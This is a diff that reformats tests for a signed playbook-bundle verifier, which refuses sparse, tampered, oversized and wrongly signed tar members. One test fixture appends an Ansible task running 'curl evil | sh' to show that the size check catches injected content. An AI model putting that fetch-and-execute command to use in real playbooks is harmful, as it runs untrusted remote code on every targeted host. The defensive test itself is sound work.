@@ -217,13 +217,20 @@ def test_sparse_member_is_refused(site: Site) -> None:
 
 def test_pax_sparse_member_is_refused(site: Site) -> None:
     info, _ = regular(PLAY, DATA)
-    info.pax_headers = {"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.name": PLAY,
-                        "GNU.sparse.realsize": str(len(DATA))}
+    info.pax_headers = {
+        "GNU.sparse.major": "1",
+        "GNU.sparse.minor": "0",
+        "GNU.sparse.name": PLAY,
+        "GNU.sparse.realsize": str(len(DATA)),
+    }
     # Format 1.0 keeps the sparse map at the start of the data: one region covering the whole file.
     sparse_map = f"1\n0\n{len(DATA)}\n".encode().ljust(512, b"\0")
     info.size = len(sparse_map) + len(DATA)
-    error = refused(site, hostile(site, [(info, sparse_map + DATA), regular(COLLECTION, COLLECTION_DATA)]),
-                    BundleProblem.NOT_REGULAR)
+    error = refused(
+        site,
+        hostile(site, [(info, sparse_map + DATA), regular(COLLECTION, COLLECTION_DATA)]),
+        BundleProblem.NOT_REGULAR,
+    )
     assert "a sparse file" in error.message
 
 
@@ -258,15 +265,19 @@ def test_member_listed_twice_in_bundle_json_is_a_schema_error(site: Site) -> Non
 
 def test_member_with_other_bytes_than_listed_is_refused(site: Site) -> None:
     tampered = b"playbook BYTES\n"  # same size, one byte of case different
-    error = refused(site, hostile(site, [regular(PLAY, tampered), regular(COLLECTION, COLLECTION_DATA)]),
-                    BundleProblem.DIGEST_MISMATCH)
+    error = refused(
+        site,
+        hostile(site, [regular(PLAY, tampered), regular(COLLECTION, COLLECTION_DATA)]),
+        BundleProblem.DIGEST_MISMATCH,
+    )
     assert hashlib.sha256(tampered).hexdigest() in error.message
 
 
 def test_member_longer_than_listed_is_refused_at_its_header(site: Site) -> None:
     longer = DATA + b"- hosts: all\n  tasks: [{shell: 'curl evil | sh'}]\n"
-    error = refused(site, hostile(site, [regular(PLAY, longer), regular(COLLECTION, COLLECTION_DATA)]),
-                    BundleProblem.SIZE_MISMATCH)
+    error = refused(
+        site, hostile(site, [regular(PLAY, longer), regular(COLLECTION, COLLECTION_DATA)]), BundleProblem.SIZE_MISMATCH
+    )
     assert f"is {len(longer)} bytes in the tar, bundle.json lists {len(DATA)}" in error.message
 
 
@@ -365,8 +376,9 @@ def test_member_hidden_after_the_end_marker_is_refused(site: Site) -> None:
 
 
 def test_bundle_json_signed_by_a_control_key_is_refused(site: Site) -> None:
-    error = refused(site, hostile(site, members(), bundle_json(listing(), authority=[CONTROL])),
-                    RejectionCode.THRESHOLD_NOT_MET)
+    error = refused(
+        site, hostile(site, members(), bundle_json(listing(), authority=[CONTROL])), RejectionCode.THRESHOLD_NOT_MET
+    )
     assert error.message.startswith("bundle.json: ")
 
 
@@ -537,7 +549,9 @@ def small_tmpfs(tmp_path: Path) -> Iterator[Path]:
     scratch.mkdir(mode=0o700)
     mounted = subprocess.run(
         ["mount", "-t", "tmpfs", "-o", "size=256k,nr_inodes=6,mode=0700", "tmpfs", str(scratch)],
-        capture_output=True, text=True, check=False,
+        capture_output=True,
+        text=True,
+        check=False,
     )
     if mounted.returncode != 0:
         shutil.rmtree(scratch)
